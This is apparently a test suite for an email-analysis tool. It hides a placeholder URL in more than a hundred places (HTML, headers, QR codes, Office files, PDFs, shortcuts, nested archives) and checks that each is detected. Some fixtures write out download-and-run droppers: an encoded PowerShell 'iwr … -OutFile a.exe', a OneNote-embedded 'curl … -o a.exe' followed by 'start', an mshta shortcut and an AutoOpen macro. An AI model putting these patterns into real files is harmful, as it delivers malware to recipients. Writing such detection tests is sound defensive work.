import { expect } from 'chai'
import { gzipSync } from 'node:zlib'
import { createArchiveOpener } from '../../src/app/workers/archive-opener.ts'
import { createQrReader } from '../../src/app/workers/qr-reader.ts'
import { inspect } from '../../src/message/inspect.ts'
import { noTools } from '../../src/message/tools.ts'
import { isoOf, lockedZip, sevenZipOf, tarOf } from '../helpers/archive-writer.ts'
import {
  biff,
  compound,
  field,
  oleObject,
  officePackage,
  paragraph,
  relations,
  vbaProject,
  wordBody,
  wordDocument,
} from '../helpers/office-writer.ts'
import { int32, binary, unicode, writeMsg } from '../helpers/outlook-writer.ts'
import { encryptedPdf, flate, linkTo, onePage } from '../helpers/pdf-writer.ts'
import { aQrCode, qrModules } from '../helpers/qr-code.ts'
import { shortcut } from '../helpers/shortcut-writer.ts'
import { cab, dynamicVhd, fatFloppy, ntfsDisk, rar } from './archives/written-archives.ts'
import { mail, optionsFor, zip } from './helpers.ts'

type Hidden = (url: string) => Buffer | Promise<Buffer>

interface Place {
  readonly what: string
  /** Where the URL must be reported to stand. */
  readonly foundIn: string
  /** Name of the file that it must be reported to stand in; null for the mail itself. */
  readonly file: string | null
  readonly mail: Hidden
}

const enc = encodeURIComponent
const base64 = (content: Buffer | string): string => Buffer.from(content).toString('base64')

/** A mail of one HTML body. */
const page =
  (body: (url: string) => string): Hidden =>
  (url) =>
    mail(['From: a@corp.example', 'Subject: s', 'Content-Type: text/html; charset=utf-8'], body(url))
/** A mail of one plain text, further fields in front. */
const text =
  (body: (url: string) => string, fields: (url: string) => readonly string[] = () => []): Hidden =>
  (url) =>
    mail(['From: a@corp.example', ...fields(url), 'Content-Type: text/plain; charset=utf-8'], body(url))

/** A mail with words and one attachment. */
function attached(name: string, content: Buffer | string, words = 'See the attachment.', type = 'application/octet-stream'): Buffer {
  return mail(
    ['From: a@corp.example', 'Subject: s', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b'],
    `--b\r\nContent-Type: text/plain\r\n\r\n${words}\r\n--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(content)}\r\n--b--\r\n`,
  )
}

interface Content {
  readonly name: string
  readonly make: (url: string) => Buffer | string | Promise<Buffer | string>
}

/** The content as attachment, in containers from the innermost to the outermost. */
interface Container {
  readonly name: string
  readonly wrap: (name: string, content: Buffer) => Buffer
  /** Name of the member as the container gives it back, where it changes. */
  readonly gives?: (name: string) => string
}
const inZip: Container = { name: 'a.zip', wrap: (name, data) => zip([{ name, data }]) }
const inSevenZip: Container = { name: 'a.7z', wrap: (name, data) => sevenZipOf(name, data) }
const inRar: Container = { name: 'a.rar', wrap: rar }
const inTar: Container = { name: 'a.tar', wrap: tarOf }
const inCab: Container = { name: 'a.cab', wrap: cab }
const inIso: Container = { name: 'a.iso', wrap: isoOf }
const inGzip: Container = { name: 'a.gz', wrap: (_, data) => gzipSync(data), gives: () => 'a' }
const inLockedZip: Container = { name: 'a.zip', wrap: (name, data) => lockedZip(name, data, 'Kx7-9311') }
const inFloppy: Container = {
  name: 'a.img',
  wrap: (name, data) => fatFloppy({ name, data: data.subarray(0, 512) }, Buffer.alloc(1)),
}
const inVhd: Container = {
  name: 'a.vhd',
  wrap: (name, data) => dynamicVhd(ntfsDisk({ name: 'x.bin', data: Buffer.alloc(8) }, { name, data })),
}

/** `inside`: the file in the content that the URL stands in. */
const placed = (
  what: string,
  foundIn: string,
  content: Content,
  containers: readonly Container[] = [],
  { words, inside }: { readonly words?: string; readonly inside?: string } = {},
): Place => {
  let path = ''
  for (const [index, container] of containers.entries()) {
    const inner = index === 0 ? content.name : path
    const [first = '', ...rest] = inner.split('/')
    path = [container.name, container.gives?.(first) ?? first, ...rest].join('/')
  }
  return {
    what,
    foundIn,
    file: [containers.length === 0 ? content.name : path, ...(inside === undefined ? [] : [inside])].join('/'),
    mail: async (url) => {
      let bytes: Buffer = Buffer.from(await content.make(url))
      let name = content.name
      for (const container of containers) {
        bytes = container.wrap(name, bytes)
        name = container.name
      }
      return attached(name, bytes, words)
    },
  }
}

const rels = 'word/_rels/document.xml.rels'
const docx = (parts: (url: string) => Readonly<Record<string, string | Buffer>>): Content => ({
  name: 'letter.docx',
  make: (url) => officePackage({ 'word/document.xml': wordBody(''), ...parts(url) }),
})
const linkedDocx = docx((url) => ({ [rels]: relations([{ type: 'hyperlink', target: url, external: true }]) }))
const xlsx = (parts: (url: string) => Readonly<Record<string, string | Buffer>>): Content => ({
  name: 'list.xlsx',
  make: (url) => officePackage({ 'xl/workbook.xml': '<workbook/>', ...parts(url) }),
})
const linkedPdf: Content = { name: 'letter.pdf', make: (url) => onePage('', { page: `/Annots [${linkTo(url)}]` }) }
const webPage: Content = { name: 'page.html', make: (url) => `<html><body><p>Hi</p><a href="${url}">open</a></body></html>` }
const picture: Content = { name: 'code.png', make: aQrCode }
const linkedMail: Content = {
  name: 'mail.eml',
  make: (url) =>
    `From: b@b.example\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(`<a href="${url}">open</a>`).replaceAll(/.{76}/g, '$&\r\n')}\r\n`,
}
const outlookMail: Content = {
  name: 'mail.msg',
  make: (url) => writeMsg({ properties: [unicode(0x0037, 's'), unicode(0x1000, `Please see ${url} today`)] }),
}
const outlookHtmlMail: Content = {
  name: 'mail.msg',
  make: (url) => writeMsg({ properties: [unicode(0x0037, 's'), binary(0x1013, Buffer.from(`<html><a href="${url}">open</a></html>`))] }),
}
const invited = (url: string): string =>
  `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nURL:${url.slice(0, 20)}\r\n ${url.slice(20)}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`
const invitation: Content = { name: 'invite.ics', make: invited }
const card: Content = { name: 'card.vcf', make: (url) => `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ann\r\nURL:${url}\r\nEND:VCARD\r\n` }
const command: Content = {
  name: 'open.lnk',
  make: (url) => shortcut({ target: 'C:\\Windows\\System32\\mshta.exe', written: url }),
}
const section = (content: Buffer): Buffer => {
  const head = Buffer.alloc(36)
  Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(head)
  head.writeBigUInt64LE(BigInt(content.length), 16)
  return Buffer.concat([
    Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
    Buffer.alloc(1_008),
    head,
    content,
    Buffer.alloc((8 - (content.length % 8)) % 8),
    Buffer.from('22a7fb71790f0b4abb13899256426b24', 'hex'),
  ])
}

/** The part of a mail that carries another one. */
const passedOn = (inner: Buffer): Buffer =>
  mail(
    ['From: a@corp.example', 'Subject: Fwd', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=o'],
    `--o\r\nContent-Type: message/rfc822\r\n\r\n${inner.toString('latin1')}\r\n--o--\r\n`,
  )

async function drawnPdf(url: string): Promise<Buffer> {
  const modules = await qrModules(url)
  const scale = 6
  const squares = modules.flatMap((row, y) =>
    row.flatMap((on, x) => (on ? [`${60 + x * scale} ${700 - y * scale} ${scale} ${scale} re f`] : [])),
  )
  return onePage(`0 g\n${squares.join('\n')}`)
}

/** A page of 1,240 × 1,754 points of colour, most of it paper, as scanners write it. */
async function scannedPdf(url: string): Promise<Buffer> {
  const modules = await qrModules(url)
  const [width, height, scale] = [1_240, 1_754, 8]
  const page = Buffer.alloc(width * height * 3, 0xfe)
  for (const [y, row] of modules.entries())
    for (const [x, on] of row.entries())
      for (let line = 0; on && line < scale; line++) {
        const start = ((400 + y * scale + line) * width + 300 + x * scale) * 3
        page.fill(0x10, start, start + scale * 3)
      }
  return onePage('q 595 0 0 842 0 0 cm /Im Do Q', {
    more: [flate(page, `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8`)],
  })
}

const safe = (url: string): string => `https://eur01.safelinks.protection.outlook.com/?url=${enc(url)}&data=05%7C01&reserved=0`
const defended = (url: string): string => `https://urldefense.proofpoint.com/v1/url?u=${enc(url)}&k=abc`
const alone = (what: string, foundIn: string, hidden: Hidden, file: string | null = null): Place => ({ what, foundIn, file, mail: hidden })
const drawnTable = (rows: readonly (readonly boolean[])[]): string =>
  `<table>${rows.map((row) => `<tr>${row.map((on) => `<td bgcolor="${on ? '#000' : '#fff'}"></td>`).join('')}</tr>`).join('')}</table>`

const places: readonly Place[] = [
  // The body.
  alone(
    'a link of HTML',
    'html-href',
    page((url) => `<a href="${url}">x</a>`),
  ),
  alone(
    'a link with line breaks and entities in it',
    'html-href',
    page((url) => `<a href="&#104;t\ntps${url.slice(5).replace('/', '&sol;')}">x</a>`),
  ),
  alone(
    'a link relative to a base address',
    'html-href',
    page((url) => `<base href="${new URL(url).origin}/"><a href="${new URL(url).pathname}">x</a>`),
  ),
  alone(
    'an area of a picture map',
    'html-href',
    page((url) => `<map><area href="${url}"></map>`),
  ),
  alone(
    'a picture',
    'html-src',
    page((url) => `<img src="${url}">`),
  ),
  alone(
    'the candidates of a picture',
    'html-src',
    page((url) => `<img srcset="${url} 2x">`),
  ),
  alone(
    'a form',
    'html-action',
    page((url) => `<form action="${url}"><input name=q></form>`),
  ),
  alone(
    'a button of a form',
    'html-action',
    page((url) => `<form><button formaction="${url}">go</button></form>`),
  ),
  alone(
    'a meta refresh',
    'html-refresh',
    page((url) => `<meta http-equiv=refresh content="0; url='${url}'">x`),
  ),
  alone(
    'a frame',
    'html-src',
    page((url) => `<iframe src="${url}"></iframe>`),
  ),
  alone(
    'the document of a frame',
    'html-srcdoc',
    page((url) => `<iframe srcdoc="&lt;a href='${url}'&gt;x&lt;/a&gt;"></iframe>`),
  ),
  alone(
    'a background attribute',
    'html-src',
    page((url) => `<table background="${url}"><tr><td>x</table>`),
  ),
  alone(
    'a style',
    'html-style',
    page((url) => `<p style="background:url('${url}')">x</p>`),
  ),
  alone(
    'a style sheet with escapes',
    'html-style',
    page((url) => `<style>p{background:url(\\68 ttp${url.slice(4)})}</style><p>x`),
  ),
  alone(
    'a comment of old Outlook',
    'html-comment',
    page((url) => `<!--[if mso]><v:roundrect href="${url}">x</v:roundrect><![endif]--><p>x`),
  ),
  alone(
    'a link of an SVG in the body',
    'html-href',
    page((url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`),
  ),
  alone(
    'a script',
    'html-script',
    page((url) => `<p>x<script>location.href="${url.slice(0, 12)}"+"${url.slice(12)}"</script>`),
  ),
  alone(
    'a data URI',
    'html-data-uri',
    page((url) => `<a href="data:text/html;base64,${base64(`<a href="${url}">x</a>`)}">x</a>`),
  ),
  alone(
    'visible text of HTML',
    'text',
    page((url) => `<p>Go to ${url} now</p>`),
  ),
  alone(
    'text with dots taken out',
    'text',
    text((url) => `Go to ${url.replace('https', 'hxxps').replace('.example', '[.]example')} now`),
  ),
  alone(
    'plain text',
    'text',
    text((url) => `Go to ${url} now`),
  ),
  alone('plain text that is folded by quoted-printable', 'text', (url) =>
    mail(
      ['From: a@corp.example', 'Content-Type: text/plain', 'Content-Transfer-Encoding: quoted-printable'],
      `Go to ${url.slice(0, 15)}=\r\n${url.slice(15)} now`,
    ),
  ),
  alone('the alternative that HTML readers do not see', 'text', (url) =>
    mail(
      ['From: a@corp.example', 'MIME-Version: 1.0', 'Content-Type: multipart/alternative; boundary=b'],
      `--b\r\nContent-Type: text/plain\r\n\r\n${url}\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>hi</p>\r\n--b--\r\n`,
    ),
  ),
  // The header.
  alone(
    'the subject',
    'subject',
    text(
      () => 'x',
      (url) => [`Subject: see ${url}`],
    ),
  ),
  alone(
    'an encoded subject',
    'subject',
    text(
      () => 'x',
      (url) => [`Subject: =?utf-8?B?${base64(`see ${url}`)}?=`],
    ),
  ),
  alone(
    'the name of a sender',
    'display-name',
    text(
      () => 'x',
      (url) => [`Reply-To: "${url}" <b@b.example>`],
    ),
  ),
  alone(
    'List-Unsubscribe',
    'list-unsubscribe',
    text(
      () => 'x',
      (url) => [`List-Unsubscribe: <${url}>`],
    ),
  ),
  // Rewriting services.
  alone(
    'Safe Links around another service',
    'html-href',
    page((url) => `<a href="${safe(defended(url))}">x</a>`),
  ),
  placed('Safe Links around another service, in an invitation', 'ics', {
    ...invitation,
    make: (url) => invited(safe(defended(url))),
  }),
  // Codes.
  alone('a QR code of table cells', 'qr-text', async (url) =>
    mail(['From: a@corp.example', 'Content-Type: text/html'], `<p>Scan</p>${drawnTable(await qrModules(url))}`),
  ),
  alone('a QR code of characters', 'qr-text', async (url) =>
    mail(
      ['From: a@corp.example', 'Content-Type: text/plain; charset=utf-8'],
      `Scan:\r\n\r\n${(await qrModules(url)).map((row) => row.map((on) => (on ? '██' : '  ')).join('')).join('\r\n')}\r\n`,
    ),
  ),
  alone('a QR code in a data URI', 'qr', async (url) =>
    mail(['From: a@corp.example', 'Content-Type: text/html'], `<img src="data:image/png;base64,${base64(await aQrCode(url))}">`),
  ),
  placed('a QR code in a picture', 'qr', picture),
  placed('a QR code in a picture in a ZIP', 'qr', picture, [inZip]),
  placed('a QR code that a PDF draws', 'qr', { name: 'code.pdf', make: drawnPdf }, [], { inside: 'drawing-1.png' }),
  placed('a QR code in a page that was scanned in colour', 'qr', { name: 'scan.pdf', make: scannedPdf }, [], { inside: 'image-6.png' }),
  placed('a QR code in a PDF in a ZIP', 'qr', { name: 'code.pdf', make: drawnPdf }, [inZip], { inside: 'drawing-1.png' }),
  {
    what: 'a QR code in a picture of a document',
    foundIn: 'qr',
    file: 'letter.docx/image1.png',
    mail: async (url) =>
      attached('letter.docx', officePackage({ 'word/document.xml': wordBody(''), 'word/media/image1.png': await aQrCode(url) })),
  },
  // Pages and scripts.
  placed('an attached page', 'html-file', webPage),
  placed('words of an attached page', 'html-file-text', { name: 'page.html', make: (url) => `<html><body>Go to ${url} now</body></html>` }),
  placed('a script that an attached page decodes', 'script', {
    name: 'page.html',
    make: (url) => `<html><body><script>location.href=atob("${base64(url)}")</script></body></html>`,
  }),
  placed('a page in an ISO image', 'html-file', { ...webPage, name: 'PAGE.HTM' }, [inIso]),
  placed('an SVG picture', 'html-file', {
    name: 'p.svg',
    make: (url) => `<svg xmlns="http://www.w3.org/2000/svg"><a href="${url}"><text>x</text></a></svg>`,
  }),
  placed('a script', 'script', { name: 'run.js', make: (url) => `var u = "${url.slice(0, 9)}" + "${url.slice(9)}"; x.open("GET", u)` }),
  placed('an encoded command', 'script', {
    name: 'run.bat',
    make: (url) => `@echo off\r\npowershell -enc ${Buffer.from(`iwr ${url} -OutFile a.exe`, 'utf16le').toString('base64')}\r\n`,
  }),
  placed('a script in UTF-16', 'script', { name: 'run.vbs', make: (url) => Buffer.from(`\ufeffx.Open "GET", "${url}"`, 'utf16le') }),
  placed('an internet shortcut', 'shortcut', { name: 'open.url', make: (url) => `[InternetShortcut]\r\nURL=${url}\r\n` }),
  placed('a shortcut', 'lnk', command),
  placed('a shortcut in an ISO image', 'lnk', { ...command, name: 'OPEN.LNK' }, [inIso]),
  placed('a shortcut in a disk image with NTFS', 'lnk', command, [inVhd]),
  placed(
    'a file in a OneNote section',
    'script',
    {
      name: 'note.one',
      make: (url) => section(Buffer.from(`@echo off\r\ncurl ${url} -o a.exe\r\nstart a.exe`)),
    },
    [],
    { inside: 'embedded-1' },
  ),
  // Documents.
  placed('a relation of a document', 'office-relation', linkedDocx),
  placed(
    'a template',
    'office-relation',
    docx((url) => ({ 'word/_rels/settings.xml.rels': relations([{ type: 'attachedTemplate', target: url, external: true }]) })),
  ),
  placed(
    'a field in pieces',
    'office-field',
    docx((url) => ({ 'word/document.xml': wordBody(field('HYPER', `LINK "${url}"`)) })),
  ),
  placed(
    'text of a document',
    'office-text',
    docx((url) => ({ 'word/document.xml': wordBody(paragraph(`Go to ${url} now`)) })),
  ),
  placed(
    'a footnote of a document',
    'office-text',
    docx((url) => ({ 'word/footnotes.xml': wordBody(paragraph(`Go to ${url} now`)) })),
  ),
  placed(
    'a macro',
    'vba',
    docx((url) => ({
      'word/vbaProject.bin': vbaProject([
        { name: 'M', source: `Sub AutoOpen()\r\nu = "${url.slice(0, 9)}" & "${url.slice(9)}"\r\nEnd Sub` },
      ]),
    })),
  ),
  placed(
    'a relation of a sheet',
    'office-relation',
    xlsx((url) => ({ 'xl/worksheets/_rels/sheet1.xml.rels': relations([{ type: 'hyperlink', target: url, external: true }]) })),
  ),
  placed(
    'a formula of a sheet',
    'office-formula',
    xlsx((url) => ({
      'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>HYPERLINK("${url}","x")</f></c></row></sheetData></worksheet>`,
    })),
  ),
  placed(
    'a shared string',
    'office-text',
    xlsx((url) => ({ 'xl/sharedStrings.xml': `<sst><si><t>Go to ${url} now</t></si></sst>` })),
  ),
  placed('a slide', 'office-relation', {
    name: 'talk.pptx',
    make: (url) =>
      officePackage({
        'ppt/presentation.xml': '<p/>',
        'ppt/slides/_rels/slide1.xml.rels': relations([{ type: 'hyperlink', target: url, external: true }]),
      }),
  }),
  placed('a Word document of the old format', 'office-field', {
    name: 'old.doc',
    make: (url) => wordDocument(`Dear Ann,\r\u0013 HYPERLINK "${url}" \u0014shop\u0015\r`),
  }),
  placed('a workbook of the old format', 'office-relation', {
    name: 'old.xls',
    make: (url) => compound({ Workbook: biff(0x1b8, Buffer.concat([Buffer.alloc(20), Buffer.from(`${url}\0`, 'utf16le')])) }),
  }),
  placed('a field of RTF', 'office-field', {
    name: 'a.rtf',
    make: (url) => `{\\rtf1{\\field{\\*\\fldinst {HYPERLINK "${url}"}}{\\fldrslt x}}}`,
  }),
  placed(
    'a web archive',
    'html-file',
    {
      name: 'a.mht',
      make: (url) =>
        `MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(`<html><a href="${url}">x</a></html>`)}\r\n`,
    },
    [],
    { inside: 'page-1.html' },
  ),
  placed('a document in a 7z archive', 'office-relation', linkedDocx, [inSevenZip]),
  {
    what: 'a page packed into a document',
    foundIn: 'html-file',
    file: 'letter.docx/page.html',
    mail: (url) =>
      attached(
        'letter.docx',
        officePackage({
          'word/document.xml': wordBody(''),
          'word/embeddings/oleObject1.bin': oleObject('page.html', Buffer.from(`<html><a href="${url}">x</a></html>`)),
        }),
      ),
  },
  placed(
    'an alternative content of a document',
    'html-file',
    docx((url) => ({
      'word/document.xml': wordBody('<w:altChunk r:id="rId1"/>'),
      [rels]: relations([{ type: 'aFChunk', target: 'chunk.html' }]),
      'word/chunk.html': `<html><a href="${url}">x</a></html>`,
    })),
    [],
    { inside: 'chunk.html' },
  ),
  placed(
    'a picture of a document that lies elsewhere',
    'office-relation',
    docx((url) => ({ [rels]: relations([{ type: 'image', target: url, external: true }]) })),
  ),
  placed(
    'a comment of a document',
    'office-text',
    docx((url) => ({ 'word/comments.xml': wordBody(paragraph(`Go to ${url} now`)) })),
  ),
  placed(
    'an external workbook',
    'office-relation',
    xlsx((url) => ({
      'xl/externalLinks/_rels/externalLink1.xml.rels': relations([{ type: 'externalLinkPath', target: url, external: true }]),
    })),
  ),
  placed(
    'a web query of a workbook',
    'office-relation',
    xlsx((url) => ({ 'xl/connections.xml': `<connections><connection id="1" type="4"><webPr url="${url}"/></connection></connections>` })),
  ),
  placed(
    'an OpenDocument text',
    'file-text',
    {
      name: 'letter.odt',
      make: (url) =>
        zip([
          { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.text') },
          {
            name: 'content.xml',
            data: Buffer.from(
              `<?xml version="1.0"?><office:document-content><text:p><text:a xlink:href="${url}">x</text:a></text:p></office:document-content>`,
            ),
          },
        ]),
    },
    [],
    { inside: 'content.xml' },
  ),
  placed(
    'an electronic book',
    'html-file',
    {
      name: 'book.epub',
      make: (url) =>
        zip([
          { name: 'mimetype', data: Buffer.from('application/epub+zip') },
          {
            name: 'one.xhtml',
            data: Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><a href="${url}">x</a></html>`),
          },
        ]),
    },
    [],
    { inside: 'one.xhtml' },
  ),
  placed('a packed SVG picture', 'html-file', {
    name: 'p.svgz',
    make: (url) => gzipSync(`<svg xmlns="http://www.w3.org/2000/svg"><a href="${url}"><text>x</text></a></svg>`),
  }),
  placed('a web location of macOS', 'shortcut', {
    name: 'a.webloc',
    make: (url) => `<?xml version="1.0"?><plist><dict><key>URL</key><string>${url}</string></dict></plist>`,
  }),
  placed('an application of HTML', 'script', {
    name: 'a.hta',
    make: (url) => `<script language="VBScript">x.Open "GET", "${url.slice(0, 9)}" & "${url.slice(9)}"</script>`,
  }),
  placed('a Windows script file', 'script', {
    name: 'a.wsf',
    make: (url) => `<job><script language="JScript">x.open("GET","${url}")</script></job>`,
  }),
  placed('a Java Web Start file', 'file-text', {
    name: 'a.jnlp',
    make: (url) => `<?xml version="1.0"?><jnlp codebase="${url}"><application-desc/></jnlp>`,
  }),
  placed('a search of Windows', 'script', {
    name: 'a.search-ms',
    make: (url) => `<?xml version="1.0"?><persistedQuery><query><scope><include path="${url}"/></scope></query></persistedQuery>`,
  }),
  placed('a web page under a name without an ending', 'html-file', { ...webPage, name: 'statement' }),
  placed('a web page in UTF-16', 'html-file', {
    name: 'page.htm',
    make: (url) => Buffer.from(`\ufeff<html><a href="${url}">x</a></html>`, 'utf16le'),
  }),
  placed('a table of text', 'file-text', { name: 'list.csv', make: (url) => `name;link\r\nAnn;${url}\r\n` }),
  placed(
    'a print document of Windows',
    'file-text',
    {
      name: 'a.oxps',
      make: (url) =>
        zip([
          { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
          { name: 'Documents/1/Pages/1.fpage', data: Buffer.from(`<FixedPage><Path FixedPage.NavigateUri="${url}"/></FixedPage>`) },
        ]),
    },
    [],
    { inside: '1.fpage' },
  ),
  placed(
    'a sheet, behind 9 MB of cells',
    'office-raw',
    xlsx((url) => ({
      'xl/worksheets/sheet1.xml': `<worksheet>${'<c r="A1"><v>1</v></c>'.repeat(410_000)}<f>HYPERLINK("${url}")</f></worksheet>`,
    })),
  ),
  placed('a long text', 'file-text', { name: 'a.log', make: (url) => `${'all is well today\n'.repeat(60_000)}${url}\n` }),
  // PDF.
  placed('a link of a PDF', 'pdf-link', linkedPdf),
  placed('text of a PDF', 'pdf-text', { name: 'a.pdf', make: (url) => onePage(`BT /F1 12 Tf 50 700 Td (Go to ${url} now) Tj ET`) }),
  placed('JavaScript of a PDF', 'pdf-javascript', {
    name: 'a.pdf',
    make: (url) => onePage('', { catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}"\\)) >>` }),
  }),
  placed('an encrypted PDF whose password is empty', 'pdf-link', { name: 'a.pdf', make: (url) => encryptedPdf(url, '', 'aes128') }),
  placed(
    'an encrypted PDF whose password the mail quotes',
    'pdf-link',
    { name: 'a.pdf', make: (url) => encryptedPdf(url, 'Kx7-9311', 'aes128') },
    [],
    { words: 'Password: Kx7-9311' },
  ),
  {
    what: 'a page embedded in a PDF',
    foundIn: 'html-file',
    file: 'a.pdf/page.html',
    mail: (url) =>
      attached(
        'a.pdf',
        onePage('', {
          catalog: '/Names << /EmbeddedFiles << /Names [(page.html) 6 0 R] >> >>',
          more: [
            '<< /Type /Filespec /F (page.html) /EF << /F 7 0 R >> >>',
            flate(`<html><a href="${url}">x</a></html>`, '/Type /EmbeddedFile'),
          ],
        }),
      ),
  },
  placed('a PDF in a TAR', 'pdf-link', linkedPdf, [inTar]),
  // Archives, one in the other.
  placed('a page in a RAR archive', 'html-file', webPage, [inRar]),
  placed('a page in a CAB archive', 'html-file', webPage, [inCab]),
  placed('a text in a floppy image', 'file-text', { name: 'NOTE.TXT', make: (url) => `Go to ${url} now` }, [inFloppy]),
  placed('a page packed by gzip', 'html-file', webPage, [inGzip]),
  placed('a page in a ZIP in a 7z archive', 'html-file', webPage, [inZip, inSevenZip]),
  placed('a shortcut in an ISO image in a ZIP', 'lnk', { ...command, name: 'OPEN.LNK' }, [inIso, inZip]),
  placed('a page in an encrypted ZIP whose password the mail quotes', 'html-file', webPage, [inLockedZip], { words: 'Password: Kx7-9311' }),
  // Mails and the like.
  placed('an invitation', 'ics', invitation),
  placed('words of an invitation', 'ics', {
    name: 'i.ics',
    make: (url) => `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Join at\\n${url}\\nnow\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
  }),
  alone(
    'an invitation as alternative of the body',
    'ics',
    (url) =>
      mail(
        ['From: a@corp.example', 'MIME-Version: 1.0', 'Content-Type: multipart/alternative; boundary=b'],
        `--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\nContent-Type: text/calendar; method=REQUEST\r\n\r\n${invited(url)}\r\n--b--\r\n`,
      ),
    '',
  ),
  placed('a business card', 'vcard', card),
  placed('a text', 'file-text', { name: 'note.txt', make: (url) => `Go to ${url} now` }),
  placed('a mail that is attached as some file', 'archived-mail', { ...linkedMail, name: 'mail.bin' }),
  placed('an attached mail', 'archived-mail', linkedMail),
  placed('an attached mail of Outlook', 'archived-mail', outlookMail),
  placed('a mail in a ZIP', 'archived-mail', linkedMail, [inZip]),
  placed('a mail of Outlook in a ZIP', 'archived-mail', outlookMail, [inZip]),
  placed(
    'a document attached to a mail in a ZIP',
    'office-relation',
    {
      name: 'mail.eml',
      make: async (url) => attached('letter.docx', Buffer.from(await linkedDocx.make(url))),
    },
    [inZip],
    { inside: 'letter.docx' },
  ),
  placed(
    'a PDF attached to a mail of Outlook in a ZIP',
    'pdf-link',
    {
      name: 'mail.msg',
      make: async (url) =>
        writeMsg({
          properties: [unicode(0x0037, 's'), unicode(0x1000, 'x')],
          attachments: [
            { properties: [unicode(0x3707, 'letter.pdf'), int32(0x3705, 1), binary(0x3701, Buffer.from(await linkedPdf.make(url)))] },
          ],
        }),
    },
    [inZip],
    { inside: 'letter.pdf' },
  ),
  placed('HTML of a mail of Outlook in a ZIP', 'archived-mail', outlookHtmlMail, [inZip]),
]

/** Passed on inside another mail: found in the mail that is reported. */
const passed: readonly (readonly [string, string, Hidden])[] = [
  ['an attached mail', 'html-href', (url) => passedOn(page((inner) => `<a href="${inner}">x</a>`)(url) as Buffer)],
  [
    'a mail attached to an attached mail',
    'html-href',
    (url) => passedOn(passedOn(page((inner) => `<a href="${inner}">x</a>`)(url) as Buffer)),
  ],
  ['an attached mail of Outlook', 'text', async (url) => attached('mail.msg', await outlookMail.make(url))],
  [
    'a page attached to a mail of Outlook',
    'html-file',
    (url) =>
      attached(
        'mail.msg',
        writeMsg({
          properties: [unicode(0x0037, 's'), unicode(0x1000, 'x')],
          attachments: [
            {
              properties: [
                unicode(0x3707, 'page.html'),
                int32(0x3705, 1),
                binary(0x3701, Buffer.from(`<html><a href="${url}">x</a></html>`)),
              ],
            },
          ],
        }),
      ),
  ],
]

describe('hiding places', function () {
  this.timeout(20_000)
  const tools = { ...noTools, archives: createArchiveOpener(), qr: createQrReader() }

  for (const [index, { what, foundIn, file, mail: hide }] of places.entries()) {
    it(`are found: ${what}`, async () => {
      const url = `https://place-${index}.hidden.example/p/${index}`
      const { messages } = await inspect(await hide(url), { ...optionsFor('message'), tools })
      const { urls, files } = messages[0]?.observables ?? { urls: [], files: [] }
      const found = urls.find((each) => each.url === url)
      expect(urls.map((each) => each.url)).to.include(url)
      expect(found?.foundIn, 'place').to.include(foundIn)
      const texts = messages[0]?.attachedText.map((each) => `${each.file}: ${each.text.trim()}`) ?? []
      expect(new Set(texts).size, 'texts, each once').to.equal(texts.length)
      const names = files.filter(({ sha256 }) => found?.inFiles.includes(sha256)).map(({ name }) => name)
      expect(names, 'files').to.deep.equal(file === null ? [] : [file])
    })
  }

  for (const [index, [what, foundIn, hide]] of passed.entries()) {
    it(`are found in what is passed on: ${what}`, async () => {
      const url = `https://passed-${index}.hidden.example/p/${index}`
      const { messages } = await inspect(await hide(url), { ...optionsFor('submission'), tools })
      const found = messages.flatMap(({ observables }) => observables.urls).find((each) => each.url === url)
      expect(found?.foundIn).to.include(foundIn)
    })
  }
})
